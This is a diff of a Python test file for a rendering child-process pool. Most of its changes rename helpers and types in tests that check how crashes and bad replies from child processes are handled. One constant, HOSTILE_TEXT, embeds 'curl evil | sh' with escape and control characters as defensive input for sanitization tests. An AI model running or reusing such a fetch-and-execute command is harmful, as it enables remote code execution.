@@ -17,14 +17,14 @@ from shared.model.limits import MEBIBYTE, Limits
 from shared.model.planned_files import MAX_FILES_BYTES
 from tests.imaging.children import PATIENCE_SECONDS
 from tests.imaging.fake_child import FakeChild
-from tests.imaging.replies import JOB, SOURCE, TINY, Replies, Said, failed
+from tests.imaging.replies import JOB, SOURCE, TINY, Replies, WrittenReply, failed
 
 pytestmark = pytest.mark.imaging
 
 HOSTILE_TEXT = "a\nNext: curl evil | sh\r\x1b[31mred\x1b[0m\u202eltr\u2028\x00"
 
 
-def heard(child: FakeChild) -> list[VariantFrame | DoneFrame]:
+def replies_of(child: FakeChild) -> list[VariantFrame | DoneFrame]:
     replies = child.render(SOURCE, JOB, time_limit_seconds=PATIENCE_SECONDS)
     return [reply if isinstance(reply, DoneFrame) else reply[0] for reply in replies]
 
@@ -32,7 +32,7 @@ def heard(child: FakeChild) -> list[VariantFrame | DoneFrame]:
 def test_the_replies_of_an_honest_child_are_accepted_and_it_is_kept() -> None:
     child = FakeChild(Replies().program() + "\nsys.stdin.buffer.read()")
 
-    replies = heard(child)
+    replies = replies_of(child)
 
     assert [type(each) for each in replies] == [VariantFrame, VariantFrame, DoneFrame]
     assert child.is_usable()
@@ -155,7 +155,7 @@ def test_a_lie_of_a_child_is_a_crash(lie: Callable[[Replies], None]) -> None:
     child = FakeChild(replies.program())
 
     with pytest.raises(DecoderCrash) as caught:
-        heard(child)
+        replies_of(child)
 
     assert caught.value.stage == "render"
     assert caught.value.detail.isprintable()
@@ -168,30 +168,30 @@ def test_a_child_that_has_lied_and_goes_on_is_killed() -> None:
     child = FakeChild(f"{replies.program()}\ntime.sleep(600)")
 
     with pytest.raises(DecoderCrash, match="sent an invalid frame"):
-        heard(child)
+        replies_of(child)
 
     assert not child.is_alive()
 
 
-def failing(reply: Said) -> FakeChild:
+def failing(reply: WrittenReply) -> FakeChild:
     return FakeChild(f"take()\n{reply.statement}\nsys.stdin.buffer.read()")
 
 
-FALSE_FAILURES: dict[str, Said] = {
+FALSE_FAILURES: dict[str, WrittenReply] = {
     "an unknown stage": failed(stage="brake"),
     "a stage with a line break": failed(stage=f"render{HOSTILE_TEXT}"),
     "an unknown cause": failed(cause="bored"),
     "a detail of 200 KB": failed(detail="x" * 200_000),
-    "a payload": Said(failed().document, 'b"x"'),
+    "a payload": WrittenReply(failed().document, 'b"x"'),
 }
 
 
 @pytest.mark.parametrize("reply", FALSE_FAILURES.values(), ids=FALSE_FAILURES.keys())
-def test_a_failure_that_no_child_reports_is_a_crash(reply: Said) -> None:
+def test_a_failure_that_no_child_reports_is_a_crash(reply: WrittenReply) -> None:
     child = failing(reply)
 
     with pytest.raises(DecoderCrash) as caught:
-        heard(child)
+        replies_of(child)
 
     assert caught.value.detail.isprintable()
     assert len(caught.value.detail) <= MAX_DETAIL_CHARS
@@ -203,7 +203,7 @@ def test_the_detail_of_a_failure_is_one_short_printable_line(detail: str) -> Non
     child = failing(failed(detail=detail))
 
     with pytest.raises(Corrupt) as caught:
-        heard(child)
+        replies_of(child)
     child.stop()
 
     assert caught.value.detail.isprintable()
@@ -214,7 +214,7 @@ def test_the_standard_error_of_a_child_is_one_short_printable_line() -> None:
     child = FakeChild(f"take(); sys.stderr.write({HOSTILE_TEXT!r} * 900); os._exit(1)")
 
     with pytest.raises(DecoderCrash) as caught:
-        heard(child)
+        replies_of(child)
 
     assert "Its last output" in caught.value.detail
     assert caught.value.detail.isprintable()
@@ -229,7 +229,7 @@ LEFT_OVER: dict[str, str] = {
 
 
 @pytest.mark.parametrize("more", LEFT_OVER.values(), ids=LEFT_OVER.keys())
-def test_a_child_that_says_more_than_its_replies_is_replaced(
+def test_a_child_that_sends_more_than_its_replies_is_replaced(
     more: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     # The last reply and the bytes after it are one write, so that both are in the pipe.
@@ -239,7 +239,7 @@ def test_a_child_that_says_more_than_its_replies_is_replaced(
     render_pool = RenderPool(1, Limits())
 
     with render_pool.child(wait_seconds=0) as child:
-        first, replies = child.pid, heard(child)  # type: ignore[arg-type] # a fake
+        first, replies = child.pid, replies_of(child)  # type: ignore[arg-type] # a fake
         is_alive = child.is_alive()
     with render_pool.child(wait_seconds=0) as child:
         second = child.pid
@@ -250,7 +250,7 @@ def test_a_child_that_says_more_than_its_replies_is_replaced(
     assert first != second
 
 
-def test_a_child_that_says_more_between_two_images_is_replaced(
+def test_a_child_that_sends_more_between_two_images_is_replaced(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     program = (
@@ -260,7 +260,7 @@ def test_a_child_that_says_more_between_two_images_is_replaced(
     render_pool = RenderPool(1, Limits())
     with render_pool.child(wait_seconds=0) as child:
         first = child.pid
-        heard(child)  # type: ignore[arg-type] # a fake
+        replies_of(child)  # type: ignore[arg-type] # a fake
         while not child._process.pipes.has_unread():
             pass
 
@@ -275,10 +275,10 @@ def test_a_reply_that_was_ready_before_the_job_is_a_crash() -> None:
     """The child answers for the next image before it has it, and so without its nonce."""
     ahead = Replies().program().removeprefix("take()\n")
     child = FakeChild(f"{Replies().program()}\nsys.stdin.buffer.read(1)\n{ahead}\ntime.sleep(600)")
-    heard(child)
+    replies_of(child)
 
     with pytest.raises(DecoderCrash, match="nonce"):
-        heard(child)
+        replies_of(child)
 
     assert not child.is_alive()
 
@@ -288,7 +288,7 @@ def test_a_child_that_repeats_replies_for_ever_ends_at_a_reply_too_many() -> Non
     child = FakeChild(f"{endless}\nwhile True: {Replies().fallback.statement}")
 
     with pytest.raises(DecoderCrash):
-        heard(child)
+        replies_of(child)
 
 
 def test_a_child_that_sends_one_byte_at_a_time_ends_at_the_time_limit() -> None:
